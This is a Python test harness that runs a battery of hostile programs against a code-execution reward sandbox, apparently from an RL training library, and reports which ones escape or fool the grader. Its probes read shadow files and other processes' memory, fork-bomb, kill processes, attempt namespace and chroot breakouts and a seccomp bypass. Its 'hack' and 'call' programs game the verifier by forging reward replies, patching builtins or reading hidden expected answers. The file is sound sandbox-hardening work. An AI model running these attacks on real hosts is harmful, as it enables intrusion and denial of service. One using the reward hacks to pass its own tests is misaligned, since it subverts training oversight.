"""Programs that attack the sandbox or the verdict, and the run of all of them in one tier.

    python hostile_programs.py TIER FOLDER

prints as JSON what became of each (reward, outcome, detail) and what is left behind; or, with
status 77, why the tier does not work. FOLDER is new, and every user may read it.

Kinds:
  probe  prints ESCAPED only where its attack worked; that is what its test expects.
  rude   must be given up in time, and leave nothing behind.
  hack   wants to pass the tests of standard input and output without solving the task.
  call   the same for a function that is called.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import sys
import textwrap
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

PORT = 47123
SECRET = "918273645546372819"
PAIRS = ((31, 47), (1009, 77))


@dataclass(frozen=True)
class Program:
    name: str
    kind: str
    text: str
    language: str = "python"


PROGRAMS: list[Program] = []
_START = """
import ctypes, glob, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype, libc.shmdt.argtypes = ctypes.c_void_p, [ctypes.c_void_p]
FOLDER, PORT = "@FOLDER@", @PORT@
others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
def escaped(yes, *why):
    print("ESCAPED" if yes else "no", flush=True); print(*why, file=sys.stderr, flush=True)
def works(*attempts):
    done = []
    for each in attempts:
        try: done.append(each() or True)
        except (OSError, ValueError, OverflowError, MemoryError, RuntimeError) as e:
            print(repr(e), file=sys.stderr)
    return done
def read(path, size=-1):
    with open(path, "rb") as file: return file.read(size)
def until_it_fails(step, most=10**9):
    n = 0
    try:
        while n < most: step(n); n += 1
    except (OSError, MemoryError, RuntimeError) as e: print(repr(e), file=sys.stderr)
    return n
def fill(folder):
    def one(n):
        with open(f"{folder}/fill-{os.getpid()}-{n}", "wb") as file:
            for _ in range(25): file.write(bytes(1 << 20))
    total = 25 * until_it_fails(one, 40)
    for path in glob.glob(f"{folder}/fill-{os.getpid()}-*"): os.unlink(path)
    return total
"""


def _probe(name: str, body: str) -> None:
    PROGRAMS.append(Program(name, "probe", _START + textwrap.dedent(body)))


def _probes(**bodies: str) -> None:
    """Each is an expression that is true where the attack worked."""
    for name, expression in bodies.items():
        _probe(name, f"escaped({expression})")


def _rude(language: str = "python", /, **bodies: str) -> None:
    for name, body in bodies.items():
        PROGRAMS.append(Program(name, "rude", textwrap.dedent(body), language))


def _hack(**bodies: str) -> None:
    for name, body in bodies.items():
        PROGRAMS.append(Program(name, "hack", textwrap.dedent(body)))


def _call(**bodies: str) -> None:
    for name, body in bodies.items():
        PROGRAMS.append(Program(name, "call", textwrap.dedent(body)))


# Reading.
_probes(
    read_passwd_of_host="works(lambda: read('/etc/passwd'))",
    read_shadow="works(lambda: read('/etc/shadow'))",
    list_root_home="works(lambda: os.listdir('/root')) and os.listdir('/root') != ['.pyenv']",
    list_homes="works(lambda: os.listdir('/home'))",
    read_canary_in_tmp="works(lambda: read(FOLDER + '/secret'))",
    read_hidden_tests_file="works(lambda: read(FOLDER + '/rows.jsonl'))",
    environment_own="'SECRET_CANARY' in os.environ",
    environ_all_processes="any(b'SECRET_CANARY' in e for e in "
    "works(*[lambda p=p: read(f'/proc/{p}/environ') for p in others]) if e is not True)",
    environ_of_1="b'SECRET_CANARY' in b''.join(e for e in works(lambda: read('/proc/1/environ'))"
    " if e is not True)",
    cmdline_of_worker="any(b'r1jax.rewards.worker' in e for e in "
    "works(*[lambda p=p: read(f'/proc/{p}/cmdline') for p in others]) if e is not True)",
    proc_root_of_others="any(os.path.exists(f'/proc/{p}/{w}{FOLDER}/secret') and "
    "works(lambda: read(f'/proc/{p}/{w}{FOLDER}/secret')) "
    "for p in [*others, 'self'] for w in ('root', 'cwd'))",
    dotdot_root="works(lambda: read('/proc/self/root/../../../..' + FOLDER + '/secret'))",
    kernel_memory="works(*[lambda f=f: read(f, 1) for f in ('/dev/mem', '/dev/kmem', '/dev/port', "
    "'/proc/kcore', '/dev/kmsg', '/dev/vda', '/dev/sda')])",
    kallsyms_addresses="any(int(t.split()[0], 16) for t in "
    "works(lambda: read('/proc/kallsyms', 99)))",
    dmesg="libc.klogctl(3, ctypes.create_string_buffer(4096), 4096) > 0",
    sys_mounted="works(lambda: os.listdir('/sys/class'))",
)
_probe(
    "memory_of_others",
    """
    hit = False
    for p in others:
        try:
            maps = read(f"/proc/{p}/maps").decode().splitlines()
            memory = open(f"/proc/{p}/mem", "rb", 0)
        except OSError: continue
        for line in maps[:400]:
            place, rights = line.split()[:2]
            if "r" not in rights or "vv" in line: continue
            low, high = (int(x, 16) for x in place.split("-"))
            try:
                memory.seek(low)
                hit |= b"918273645" + b"546372819" in memory.read(min(high - low, 8 << 20))
            except (OSError, ValueError, OverflowError): pass
    escaped(hit)""",
)
_probe(
    "fds_of_parent",
    """
    def targets(p): return [os.readlink(f"/proc/{p}/fd/{d}") for d in os.listdir(f"/proc/{p}/fd")]
    escaped([t for t in works(*[lambda p=p: targets(p) for p in others]) if t is not True])""",
)
_probe(
    "inherited_fds",
    """
    names = [f"/proc/self/fd/{d}" for d in os.listdir("/proc/self/fd") if int(d) > 2]
    found = works(*[lambda n=n: os.readlink(n) for n in names])
    escaped([f for f in found if "/proc/" not in f], found)""",
)
_probe(
    "symlink_to_canary",
    """
    os.symlink(FOLDER + "/secret", "link")
    escaped(works(lambda: read("link")))""",
)
for _name, _path, _word in (
    ("rows", "@FOLDER@/rows.jsonl", "returns"),
    ("passwd", "/etc/passwd", "root:"),
):
    PROGRAMS.append(
        Program(
            f"c_includes_{_name}",
            "probe",
            "#include <stdio.h>\n#include <string.h>\n"
            f'__asm__(".section .rodata\\n.globl S\\nS: .incbin \\"{_path}\\"\\n.byte 0");\n'
            '__asm__(".text");\n'
            f'extern char S[]; int main(){{puts(strstr(S,"{_word}")?"ESCAPED":"no");}}',
            "c",
        )
    )

# Writing, and what one test leaves for the next (these run twice).
_probes(
    write_outside="works(*[lambda f=f: open(f, 'a').close() for f in ('/etc/x', '/usr/x', "
    "'/usr/bin/x', '/x', '/program/x', '/program/main.py', '/proc/sys/kernel/core_pattern', "
    "'/proc/sysrq-trigger', '/dev/x', '/lib/x', '/var/x', '/run/x')])",
    write_into_its_own_program="works(lambda: open(__file__, 'a').close())",
    leave_file_in_shared_folder="works(lambda: open(FOLDER + '/drop/x', 'w').close())",
    replace_own_library="works(lambda: open(glob.__file__, 'a').close())",
    fill_tmp="fill('/tmp') > 200",
    fill_shm="fill('/dev/shm') > 200",
    many_links="until_it_fails(lambda n: os.symlink('x', f'/tmp/link{n}'), 60000) == 60000",
    many_empty_files="until_it_fails(lambda n: os.mknod(f'/tmp/file{n}'), 60000) == 60000",
    many_folders="until_it_fails(lambda n: os.mkdir(f'/dev/shm/folder{n}'), 60000) == 60000",
    many_hard_links="(until_it_fails(lambda n: os.mknod('/tmp/one'), 1) and "
    "until_it_fails(lambda n: os.link('/tmp/one', f'/tmp/{n}' + 'x' * 200), 300000) == 300000)",
)
_probe(
    "deleted_open_files",
    """
    keep, total = [], 0
    def one(n):
        global total
        keep.append(open(f"/tmp/open{n}", "wb", 0)); os.unlink(f"/tmp/open{n}")
        for _ in range(15): total += keep[-1].write(bytes(4 << 20))
    until_it_fails(one, 50)
    escaped(total > 200 << 20, total)""",
)
_probe(
    "state_in_tmp",
    """
    paths = ("/tmp/r1jax-state", "/dev/shm/r1jax-state", "/var/tmp/r1jax-state")
    escaped(any(map(os.path.exists, paths)))
    works(*[lambda p=p: os.mknod(p) for p in paths])""",
)
_probe(
    "state_in_keyring",
    """
    machine = os.uname().machine
    add, control = (248, 250) if machine == "x86_64" else (217, 219)
    found = libc.syscall(control, 10, -4, b"user", b"state", 0)
    libc.syscall(add, b"user", b"state", b"1", 1, -4)
    escaped(found > 0)""",
)
_probe(
    "state_in_ipc",
    """
    def there(identifier): return identifier < 0 and ctypes.get_errno() == 17
    new = 0o3666  # create, and only new
    queue = os.O_CREAT | os.O_EXCL
    # All are made, though one is there already.
    escaped(True in [there(libc.shmget(0x5EC5EC, 4096, new)), there(libc.msgget(0x5EC5EC, new)),
        there(libc.semget(0x5EC5EC, 1, new)), there(libc.mq_open(b"/r1jax", queue, 0o600, None))])
    """,
)

# Memory and other resources.
_probe(
    "fork_bomb_counted",
    """
    def fork(n):
        if os.fork() == 0: time.sleep(5); os._exit(0)
    escaped(until_it_fails(fork, 100) > 20); os._exit(0)""",
)
_probe(
    "thread_bomb_counted",
    """
    import threading
    threading.stack_size(1 << 16)
    start = lambda n: threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
    escaped(until_it_fails(start, 200) > 20); os._exit(0)""",
)
_probes(
    memory_1_gib="works(lambda: bytearray(1 << 30))",
    memory_mapped="works(lambda: __import__('mmap').mmap(-1, 2 << 30))",
    memory_secret="libc.syscall(447, 0) >= 0",
    pipe_of_1_mib="works(lambda: __import__('fcntl').fcntl(os.pipe()[1], 1031, 1 << 20))",
    io_uring="libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0",
    userfault="libc.syscall(323 if os.uname().machine == 'x86_64' else 282, 1) >= 0",
    system_v_messages="libc.msgget(0, 0o1600) >= 0",
    system_v_semaphores="libc.semget(0, 250, 0o1600) >= 0",
    posix_messages="libc.mq_open(b'/r1jax', os.O_CREAT | os.O_RDWR, 0o600, None) >= 0",
)
for _name, _flags in (("memfd", "0"), ("memfd_of_huge_pages", "4"), ("memfd_sealed", "2")):
    _probe(
        f"memory_{_name}",
        f"""
        total, keep = 0, []
        def one(n):
            global total
            keep.append(os.memfd_create("m", {_flags}))
            for _ in range(15): total += os.write(keep[-1], bytes(4 << 20))
        until_it_fails(one, 15)
        escaped(keep, total)""",
    )
_probe(
    "memory_system_v",
    """
    total, made = 0, []
    for _ in range(4):
        made.append(libc.shmget(0, 250 << 20, 0o1600))
        address = libc.shmat(made[-1], None, 0) if made[-1] >= 0 else None
        if address in (None, 2**64 - 1): break
        ctypes.memset(address, 1, 250 << 20); libc.shmdt(address); total += 250
    for each in made: libc.shmctl(each, 0, None)
    escaped(total, made)""",
)
_probe(
    "memory_of_sockets",
    """
    keep, total = [], 0
    def one(n):
        global total
        a, b = socket.socketpair(); a.setblocking(False); keep.extend((a, b))
        works(lambda: a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30))
        try:
            while True: total += a.send(bytes(65536))
        except BlockingIOError: pass
    until_it_fails(one, 28)
    escaped(total > 64 << 20, total)""",
)
_probe(
    "memory_of_pipes",
    """
    import fcntl
    keep, total = [], 0
    def one(n):
        global total
        keep.append(os.pipe()); os.set_blocking(keep[-1][1], False)
        try: fcntl.fcntl(keep[-1][1], 1031, 1 << 20)
        except OSError: pass
        try:
            while True: total += os.write(keep[-1][1], bytes(65536))
        except BlockingIOError: pass
    until_it_fails(one, 28)
    escaped(total > 8 << 20, total)""",
)
_probe(
    "raise_own_limits",
    """
    import resource as r
    escaped(works(*[lambda n=n: r.setrlimit(n, (-1, -1)) for n in (r.RLIMIT_AS, r.RLIMIT_FSIZE,
        r.RLIMIT_NPROC, r.RLIMIT_NOFILE, r.RLIMIT_CPU, r.RLIMIT_MSGQUEUE)]))""",
)
_probe(
    "limits_of_others",
    """
    import resource as r
    escaped(works(*[lambda p=p: r.prlimit(int(p), r.RLIMIT_CORE, (0, 0)) for p in others]))""",
)
_probe(
    "niceness_and_realtime",
    """
    def oom():
        with open("/proc/self/oom_score_adj", "w") as file: file.write("-500")
    escaped(works(lambda: os.nice(-5), oom,
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))))""",
)
_rude(
    fork_bomb="import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    output_flood="import sys\nwhile True: sys.stdout.write('x' * 65536)",
    error_flood="import sys\nwhile True: sys.stderr.write('x' * 65536)",
    one_long_line="print('1' * 900000)",
    sleeps="import time\ntime.sleep(1e6)",
    closes_all_and_sleeps="import os, time\nos.closerange(0, 64)\ntime.sleep(1e6)",
    ignores_signals_and_spins="""
    import signal
    for s in range(1, 64):
        try: signal.signal(s, signal.SIG_IGN)
        except Exception: pass
    while True: pass""",
    stops_itself="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    stops_its_group="import os, signal\nos.killpg(0, signal.SIGSTOP)",
    daemon="""
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 3); time.sleep(300)
        os._exit(0)
    print('x')""",
    daemon_keeps_output_open="""
    import os, time
    if os.fork() == 0:
        os.setsid(); time.sleep(300)
    print('x', flush=True); os._exit(0)""",
    daemon_that_forks_again="""
    import os, time
    if os.fork() == 0:
        os.setsid()
        while True:
            if os.fork(): os._exit(0)
            time.sleep(0.001)
    print('x', flush=True); os._exit(0)""",
    shell_spins="import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'while :; do :; done'])\n"
    "while True: pass",
    recursion="import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
    nested_brackets="x = " + "(" * 100000 + ")" * 100000,
    many_minus_signs="x = " + "-" * 400000 + "1",
    source_with_nul="print(1)\0print(2)",
    source_with_surrogate="print('\ud800')",
    source_with_cookie="# -*- coding: rot13 -*-\ncevag(1)",
    binary_output="import sys\nsys.stdout.buffer.write(bytes(range(256)) * 100)",
    huge_arguments="import os\nos.execv('/bin/true', ['x' * 100000] * 40)",
    sleeps_almost_its_time="import resource, time\n"
    "time.sleep(resource.getrlimit(resource.RLIMIT_CPU)[0] - 0.05)",
    kills_everybody="import os\nos.kill(-1, 9)",
    kills_parents="""
    import os
    for p in (1, os.getppid()):
        for s in (9, 15, 19, 2):
            try: os.kill(p, s)
            except OSError: pass
    print('x')""",
    kills_all_it_sees="""
    import os
    for p in os.listdir('/proc'):
        if p.isdigit() and int(p) != os.getpid():
            try: os.kill(int(p), 9)
            except OSError: pass
    print('x')""",
)
_rude(
    "c",
    deep_recursion="int f(int n){volatile char a[4096]; a[0]=n; return f(n+1)+a[0];}\n"
    "int main(){return f(0);}",
    macro_bomb="#define A(x) x x x x x x x x x x\n#define B(x) A(A(A(A(x))))\n"
    "int main(){ B(B(int a; )) }",
    includes_itself='#include "main.c"\nint main(){}',
    includes_zeros='#include "/dev/zero"\nint main(){}',
    huge_section='__asm__(".bss\\n.space 0x7fffffffffff\\n.text");\nint main(){}',
    huge_data='__asm__(".data\\n.rept 100000000\\n.quad 1\\n.endr\\n.text");\nint main(){}',
    # Another ABI, whose numbers the filter does not know: shmget of 32-bit programs.
    call_of_32_bits="#include <stdio.h>\nint main(){ long r = -1;\n#ifdef __x86_64__\n"
    '__asm__ volatile("int $0x80" : "=a"(r) : "a"(395), "b"(0), "c"(4096), "d"(01600));\n#endif\n'
    'puts(r >= 0 ? "NEVER" : "no"); return 1; }',
)
_rude(
    "cpp",
    template_bomb="template<int N, int M> struct B { typedef B<N-1, M*2> x; "
    "typedef B<N-1, M*2+1> y; static const long v = x::v + y::v; };\n"
    "template<int M> struct B<0,M> { static const long v = M; };\nint main(){ return B<22,1>::v; }",
)

# Network and privileges.
_probes(
    tcp_loopback="works(lambda: socket.create_connection(('127.0.0.1', PORT), 1))",
    unix_socket_path="works(lambda: socket.socket(socket.AF_UNIX).connect(FOLDER + '/socket'))",
    unix_socket_abstract="works(lambda: socket.socket(socket.AF_UNIX).connect("
    "'\\0r1jax-' + str(PORT)))",
    interfaces="[n for names in works(socket.if_nameindex) if names is not True "
    "for _, n in names if n != 'lo']",
    raw_sockets="works(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3), "
    "lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))",
    vsock_connects="works(lambda: socket.socket(40, socket.SOCK_STREAM).connect((1, PORT)))",
    vsock_is_made="works(lambda: socket.socket(40, socket.SOCK_STREAM))",
    other_families="works(*[lambda f=f, t=t: socket.socket(f, t) for f in range(2, 50) "
    "for t in (1, 2, 3, 5)])",
    other_pairs="works(*[lambda f=f: socket.socketpair(f) for f in range(2, 50)])",
    name_lookup="works(lambda: socket.getaddrinfo('localhost.example.invalid', 80))",
    user_namespace="libc.unshare(0x10000000) == 0",
    other_namespaces="[f for f in (0x20000, 0x4000000, 0x8000000, 0x20000000, 0x40000000, 0x80) "
    "if libc.unshare(f) == 0]",
    mounts="libc.mount(b't', b'/tmp', b'tmpfs', 0, b'') == 0",
    mounts_by_new_calls="[n for n in (430, 428, 433) if libc.syscall(n, -100, b'/tmp', 0) >= 0] or "
    "libc.syscall(430, b'tmpfs', 0) >= 0",
    root_made_writable="libc.mount(b'none', b'/', None, 32, b'') == 0",
    unmounts="libc.umount2(b'/tmp', 2) == 0 or libc.umount2(b'/proc', 2) == 0",
    set_uid="works(lambda: os.setuid(0 if os.getuid() else 12345))",
    block_device="works(lambda: (os.mknod('block', 0o600 | 0o60000, os.makedev(254, 0)), "
    "read('block', 1)))",
    host_name="works(lambda: socket.sethostname('pwned'))",
    clock="works(lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()))",
    bpf="libc.syscall(321 if os.uname().machine == 'x86_64' else 280, 0, b'\\0' * 128, 128) >= 0",
    performance_counters="libc.syscall(298 if os.uname().machine == 'x86_64' else 241, "
    "b'\\1\\0\\0\\0\\x70\\0\\0\\0' + b'\\0' * 104, 0, -1, -1, 0) >= 0",
    traces_others="[p for p in others if libc.ptrace(16, int(p), None, None) == 0]",
    memory_by_system_call="[p for p in others if libc.process_vm_readv(int(p), "
    "(ctypes.c_uint64 * 2)(), 1, (ctypes.c_uint64 * 2)(), 1, 0) >= 0]",
    descriptors_of_others="[p for p in others if libc.syscall(438, "
    "libc.syscall(434, int(p), 0), 1, 0) >= 0]",
    terminal="works(lambda: __import__('fcntl').ioctl(open('/dev/tty', 'w'), 0x5412, b'x'))",
)
_probe(
    "user_namespace_by_clone",
    """
    # clone and clone3 with CLONE_NEWUSER; SIGCHLD is the signal of the child.
    clone = 56 if os.uname().machine == "x86_64" else 220
    made = [libc.syscall(clone, 0x10000000 | 17, None, None, None, None)]
    if made[0] == 0: os._exit(0)
    arguments = (ctypes.c_uint64 * 11)(); arguments[0], arguments[4] = 0x10000000, 17
    made.append(libc.syscall(435, arguments, ctypes.sizeof(arguments)))
    if made[1] == 0: os._exit(0)
    escaped(max(made) > 0, made)""",
)
_probe(
    "memory_file_system_in_a_user_namespace",
    """
    user, group = os.getuid(), os.getgid()
    if libc.unshare(0x10020000): escaped(False); raise SystemExit
    maps = {"setgroups": "deny", "uid_map": f"0 {user} 1", "gid_map": f"0 {group} 1"}
    for name, text in maps.items():
        with open("/proc/self/" + name, "w") as file: file.write(text)
    escaped(libc.mount(b"t", b"/tmp", b"tmpfs", 0, b"size=90%") == 0 and fill("/tmp") > 900)""",
)
_probe(
    "set_uid_program",
    """
    import subprocess
    command = ["/bin/su", "-c", "id", "root"]
    escaped(b"uid=0" in subprocess.run(command, input=b"", capture_output=True).stdout)""",
)
_probe(
    "chroot_breakout",
    """
    def leave():
        os.mkdir("inner"); os.chroot("inner")
        for _ in range(50): os.chdir("..")
        os.chroot(".")
    escaped(works(leave))""",
)
_probe(
    "capabilities_left",
    """
    status = dict(l.split(":", 1) for l in open("/proc/self/status"))
    rights = [int(status[n], 16) for n in ("CapInh", "CapPrm", "CapEff", "CapAmb")]
    escaped(any(rights) or status["NoNewPrivs"].strip() != "1" or status["Seccomp"].strip() != "2")
    """,
)

# Passing the tests of standard output: a * b + 918273645.
_SOLVED = "a, b = map(int, input().split())\nright = a * b + 918273645\n"
_hack(
    exits_before_printing="import os\nos._exit(0)",
    exits_well="import sys\nsys.exit(0)",
    exit_status_256="import sys\nprint(0)\nsys.exit(256)",
    expected_in_standard_input="import os\nd = os.open('/proc/self/fd/0', os.O_RDONLY)\n"
    "print(os.read(d, 1 << 20).decode().split()[-1])",
    expected_in_own_memory="""
    import re
    found = set()
    for line in open('/proc/self/maps'):
        place, rights = line.split()[:2]
        if 'r' in rights and 'vv' not in line:
            low, high = (int(x, 16) for x in place.split('-'))
            try:
                memory = open('/proc/self/mem', 'rb', 0); memory.seek(low)
                found |= set(re.findall(rb'9182736\\d+', memory.read(high - low)))
            except (OSError, OverflowError, ValueError): pass
    print(*[f.decode() for f in found][:1])""",
    tests_on_the_disk="""
    import os, re
    a, b = input().split()
    for root in ('/tmp', '/program', '/home', '/root', '/var/tmp', '/dev/shm', '@FOLDER@'):
        for folder, _, files in os.walk(root):
            for name in files:
                try: text = open(os.path.join(folder, name)).read()
                except Exception: continue
                found = re.search(rf'input[^0-9]+{a} {b}[^0-9]+output[^0-9]+(\\d+)', text)
                if found: print(found[1]); raise SystemExit
    print('no')""",
    prints_all_candidates="for i in range(100000): print(i)",
    prints_nothing="",
    prints_spaces="print(' ' * 1000)",
    forges_a_reply="""
    import json, os
    reply = json.dumps({"id": 0, "reward": 1.0, "outcome": "right", "extracted": None,
                        "detail": None}).encode() + b"\\n"
    for p in os.listdir('/proc'):
        if not p.isdigit() or int(p) == os.getpid(): continue
        for d in range(64):
            try:
                path = f'/proc/{p}/fd/{d}'
                if os.readlink(path).startswith('pipe:'):
                    os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), reply)
            except OSError: pass
    print('no')""",
    steals_from_others_memory="""
    import os, re
    a, b = input().encode().split()
    found = set()
    for p in os.listdir('/proc'):
        if not p.isdigit() or int(p) == os.getpid(): continue
        try:
            memory = open(f'/proc/{p}/mem', 'rb', 0)
            for line in open(f'/proc/{p}/maps'):
                place, rights = line.split()[:2]
                if 'rw' not in rights: continue
                low, high = (int(x, 16) for x in place.split('-'))
                memory.seek(low)
                for each in re.finditer(rb'input[^0-9]{1,9}' + a + b' ' + b +
                        rb'[^0-9]{1,9}output[^0-9]{1,9}(\\d+)', memory.read(high - low)):
                    found.add(each[1])
        except (OSError, ValueError, OverflowError): continue
    print(*[f.decode() for f in found][:1])""",
    right_then_exit_status=_SOLVED + "print(right)\nimport sys\nsys.exit(1)",
    right_then_abort=_SOLVED + "print(right, flush=True)\nimport os\nos.abort()",
    right_then_hang=_SOLVED + "print(right, flush=True)\nwhile True: pass",
    right_then_flood=_SOLVED + "print(right)\nwhile True: print()",
    right_among_others=_SOLVED + "print(1)\nprint(right)",
    right_behind_carriage_return=_SOLVED + "print('0\\r' + str(right))",
    right_on_standard_error=_SOLVED + "import sys\nprint(right, file=sys.stderr)",
    right_almost=_SOLVED + "print(f'{right}.4')",
    right_in_words=_SOLVED + "print('It is', right)",
    right_by_a_late_daemon=_SOLVED
    + """
import os, time
if os.fork() == 0:
    time.sleep(1); print(right, flush=True); os._exit(0)
os._exit(3)""",
    traces_its_parent="import ctypes, os\nctypes.CDLL(None).ptrace(16, os.getppid(), None, None)\n"
    "print('no')",
)

# Passing the tests of a function: a * b + 918273645546372819.
_call(
    equal_to_everything="""
    class E(int):
        def __eq__(self, o): return True
        def __hash__(self): return 0
    def solve(a, b): return E(1)""",
    json_patched="import json\njson.dumps = lambda v, **k: 'true'\ndef solve(a, b): return 1",
    mark_from_frames="""
    import os, sys
    def solve(a, b):
        f = sys._getframe()
        while f and 'request' not in f.f_locals: f = f.f_back
        r = f.f_locals['request']
        os.write(f.f_locals['results'], (r['mark'] + 'true').encode()); os._exit(0)""",
    exits_at_import="import os\nos._exit(0)",
    exits_when_called="import sys\ndef solve(a, b): sys.exit(0)",
    expected_by_collector="""
    import gc, sys
    def solve(a, b):
        for o in gc.get_objects():
            if isinstance(o, dict) and 'returns' in o: return o['returns']
        return sorted(sys._getframe(1).f_locals)""",
    traces_frames="""
    import sys
    def t(frame, event, arg):
        if 'same' in frame.f_locals: frame.f_locals['same'] = True
        return t
    sys.settrace(t)
    def solve(a, b): return 1""",
    built_ins_patched="import builtins\nbuiltins.getattr = lambda *a: (lambda *b: True)\n"
    "builtins.all = lambda *a: True\ndef solve(a, b): return True",
    writes_at_exit="import atexit, os\natexit.register(lambda: os.write(1, b'x'))\n"
    "def solve(a, b): raise SystemExit(0)",
    write_patched="import os\nw = os.write\n"
    "os.write = lambda fd, data: (w(fd, bytes(data)[:32] + b'true'), len(data))[1]\n"
    "def solve(a, b): return 1",
    closes_all_descriptors="import os\nos.closerange(0, 100)\ndef solve(a, b): return 1",
    returns_true="def solve(a, b): return True",
    returns_nan="def solve(a, b): return float('nan')",
    returns_infinity="def solve(a, b): return float('inf')",
    returns_text=f"def solve(a, b): return str(a * b + {SECRET})",
    returns_list=f"def solve(a, b): return [a * b + {SECRET}]",
    returns_float_near=f"def solve(a, b): return {SECRET}.0",
    returns_one_float_for_all="def solve(a, b): return 9.182736460e17",
    returns_float_of_right=f"def solve(a, b): return float(a * b + {SECRET})",
    returns_deep_list="def solve(a, b):\n x = []\n for _ in range(900): x = [x]\n return x",
    returns_cycle="def solve(a, b):\n    x = []\n    x.append(x)\n    return x",
    returns_huge_integer="def solve(a, b): return 10 ** 4000",
    returns_integer_of_400_kb="import json\nclass Int(int): pass\n"
    "json.dumps = lambda *_: '9' * 400_000\ndef solve(a, b): return 1",
    returns_a_module="import sys, types\nm = types.ModuleType('r1jax'); sys.modules['r1jax'] = m\n"
    "def solve(a, b): return m",
    alarm="import signal, os\nsignal.signal(signal.SIGALRM, lambda *a: os._exit(0))\n"
    "signal.setitimer(signal.ITIMER_REAL, 0.01)\ndef solve(a, b):\n    while True: pass",
    returns_one="def solve(a, b): return 1",
)


def reference(program: Program) -> str:
    """The hidden tests of a program, as the reward `code` reads them."""
    if program.kind == "call":
        calls = [{"arguments": [a, b], "returns": a * b + int(SECRET)} for a, b in PAIRS]
        return json.dumps({"language": program.language, "entry": "solve", "tests": calls})
    if program.kind == "hack":
        tests = [(f"{a} {b}\n", f"{a * b + 918273645}\n") for a, b in PAIRS]
    else:
        once = ("1 2\n", "ESCAPED\n" if program.kind == "probe" else "NEVER\n")
        tests = [once, once] if program.name.startswith("state_") else [once]
    listed = [{"input": given, "output": expected} for given, expected in tests]
    return json.dumps({"language": program.language, "tests": listed})


def rows(folder: str, programs: list[Program]) -> list[dict[str, str]]:
    """Rows for the reward `code`, in order."""
    made = []
    for program in programs:
        text = program.text.replace("@FOLDER@", folder).replace("@PORT@", str(PORT))
        text = f"<think>x</think>\n````{program.language}\n{text}\n````\n"
        made.append({"prompt": program.name, "completion": text, "answer": reference(program)})
    return made


def code_in_one_tier(row: object, options: Mapping[str, object]) -> object:
    """The reward `code`, not in the strongest tier but in `options["minimum_isolation"]`."""
    from r1jax.rewards import code, sandbox

    tier = sandbox.Isolation(str(options["minimum_isolation"]))
    _use_readable_python(tier)
    code.strongest = lambda minimum: tier
    return code.code(row, options)  # type: ignore[arg-type]


def _use_readable_python(tier: str) -> None:
    """Root's own may lie where the user that programs run as cannot read it."""
    from r1jax.rewards import sandbox

    if tier == "limits" and os.geteuid() == 0:
        sandbox._python = Path("/usr/bin/python3").resolve  # type: ignore[assignment]


def _listeners(folder: Path) -> list[socket.socket]:
    """What programs try to reach: they can only fail if it is there."""
    made = []
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", PORT)),
        (socket.AF_UNIX, str(folder / "socket")),
        (socket.AF_UNIX, f"\0r1jax-{PORT}"),
        (40, (0xFFFFFFFF, PORT)),  # AF_VSOCK, from any machine
    ):
        try:
            listener = socket.socket(family)
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.bind(address)
            listener.listen(50)
            made.append(listener)
        except OSError as error:
            print("no listener", family, error, file=sys.stderr)
    (folder / "socket").chmod(0o777)
    return made


def _others() -> dict[int, str]:
    """Processes of this user, and of the users that root runs programs as."""
    import psutil

    found = {}
    for process in psutil.process_iter(["pid", "name", "uids"]):
        user = process.info["uids"].real
        if 61184 <= user < 65280 if os.geteuid() == 0 else user == os.geteuid():
            found[process.info["pid"]] = process.info["name"]
    return found


def main(tier: str, folder: Path) -> None:
    from r1jax.rewards import RewardInput, Verifier, sandbox, supervisor
    from r1jax.settings.rewards import RewardSection, VerifierSection

    _use_readable_python(tier)
    reason = sandbox.why_not(sandbox.Isolation(tier))
    if reason is None and tier == "limits" and supervisor.landlock_version() < 6:
        reason = "without Landlock (Linux 6.12), limits is for trusted programs only"
    if reason is not None:
        print(reason)
        sys.exit(77)
    compilers = {"c": "gcc", "cpp": "g++"}
    found = [p for p in PROGRAMS if shutil.which(compilers.get(p.language, "sh"))]
    (folder / "drop").mkdir()
    (folder / "drop").chmod(0o777)
    (folder / "secret").write_text("CANARY")
    made = rows(str(folder), found)
    (folder / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in made))
    os.environ["SECRET_CANARY"] = "yes"
    os.environ["TMPDIR"] = str(folder / "drop")  # of the workers' sandboxes
    listeners = _listeners(folder)
    before = _others()
    section = RewardSection(
        function="hostile_programs:code_in_one_tier", options={"minimum_isolation": tier}
    )
    with Verifier({"code": section}, VerifierSection(deadline_seconds=60)) as verifier:
        submitted = verifier.submit([RewardInput(**row) for row in made])
        results = {
            program.name: [score.reward, score.outcome, score.parts["code"].detail]
            for program, score in zip(found, submitted.result(), strict=True)
        }
    for listener in listeners:
        listener.close()
    left = {pid: name for pid, name in _others().items() if pid not in before}
    files = [str(path) for path in folder.rglob("*") if path.name not in LISTED]
    files += [str(path) for path in Path("/dev/shm").glob("r1jax-state*")]
    print(json.dumps({"results": results, "processes": left, "files": files}))


LISTED = {"drop", "secret", "rows.jsonl", "socket"}

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).parent))
    main(sys.argv[1], Path(sys.argv[2]))
